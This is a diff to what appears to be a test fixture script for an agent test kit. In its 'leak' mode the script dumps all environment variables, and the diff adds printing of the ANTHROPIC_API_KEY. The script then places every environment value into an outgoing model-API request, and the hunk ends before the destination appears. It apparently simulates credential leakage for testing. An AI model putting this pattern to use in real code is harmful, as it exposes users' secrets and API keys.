@@ -23,6 +23,7 @@ if mode == "unsupported":
 if mode == "leak":
     print(json.dumps(dict(os.environ), indent=1))
     print("planted:", os.environ.get("AGENT_TCK_PLANTED"), file=sys.stderr)
+    print("anthropic credential given:", os.environ.get("ANTHROPIC_API_KEY"), file=sys.stderr)
     body = {"model": "m", "max_tokens": 8, "messages": [
         {"role": "user", "content": "leak " + " ".join(os.environ.values())}]}
     request = urllib.request.Request(
